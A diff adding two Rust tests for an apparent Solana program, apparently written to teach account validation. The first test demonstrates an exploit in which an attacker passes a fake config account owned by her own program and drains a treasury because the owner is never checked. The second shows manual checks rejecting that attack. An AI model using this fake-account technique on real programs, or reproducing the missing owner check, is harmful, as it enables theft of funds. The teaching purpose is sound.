@@ -0,0 +1,86 @@
+#[tokio::test]
+async fn test_fake_config_exploit() {
+    println!("\n=== EXPLOIT: Fake Config In A Native Program ===\n");
+
+    let mallory = Keypair::new();
+    let treasury = create_treasury(100 * LAMPORTS_PER_SOL).await;
+    println!("1. Treasury holds 100 SOL");
+
+    println!("\n2. Mallory creates a config owned by her own program");
+    let fake_config = create_account_with_data(
+        &MALLORY_PROGRAM_ID,
+        &Config {
+            admin: mallory.pubkey(),
+            treasury_bump: 255,
+        },
+    )
+    .await;
+
+    println!("\n3. Withdraw 99 SOL using the fake config");
+    let result = withdraw(
+        &fake_config,
+        &mallory,
+        &treasury,
+        &mallory.pubkey(),
+        99 * LAMPORTS_PER_SOL,
+    )
+    .await;
+
+    // Vulnerable: config owner never checked
+    assert!(result.is_ok());
+
+    println!("\n   EXPLOIT SUCCESSFUL!");
+    println!("   ✗ Treasury drained with a config Mallory wrote herself");
+}
+
+#[tokio::test]
+async fn test_manual_checks() {
+    println!("\n=== SECURITY: Manual Account Validation ===\n");
+
+    let mallory = Keypair::new();
+    let admin = Keypair::new();
+    let (config, treasury) = initialize(&admin, 100 * LAMPORTS_PER_SOL).await;
+    let fake_config =
+        create_account_with_data(&MALLORY_PROGRAM_ID, &fake_config_bytes(&mallory)).await;
+
+    println!("1. Fake config");
+    let result = withdraw(
+        &fake_config,
+        &mallory,
+        &treasury,
+        &mallory.pubkey(),
+        LAMPORTS_PER_SOL,
+    )
+    .await;
+    assert_eq!(result.unwrap_err(), ProgramError::IncorrectProgramId);
+    println!("   ✓ IncorrectProgramId");
+
+    println!("\n2. Real config, Mallory as admin");
+    let result = withdraw(
+        &config,
+        &mallory,
+        &treasury,
+        &mallory.pubkey(),
+        LAMPORTS_PER_SOL,
+    )
+    .await;
+    assert!(result.is_err());
+    println!("   ✓ Unauthorized");
+
+    println!("\n3. Treasury passed read-only");
+    let result = withdraw_readonly_treasury(&config, &admin, &treasury, LAMPORTS_PER_SOL).await;
+    assert!(result.is_err());
+    println!("   ✓ AccountNotWritable");
+
+    println!("\n4. Admin withdraws everything");
+    let result = withdraw(
+        &config,
+        &admin,
+        &treasury,
+        &admin.pubkey(),
+        100 * LAMPORTS_PER_SOL,
+    )
+    .await;
+    assert_eq!(result.unwrap_err(), ProgramError::InsufficientFunds);
+    println!("   ✓ Rent floor kept");
+}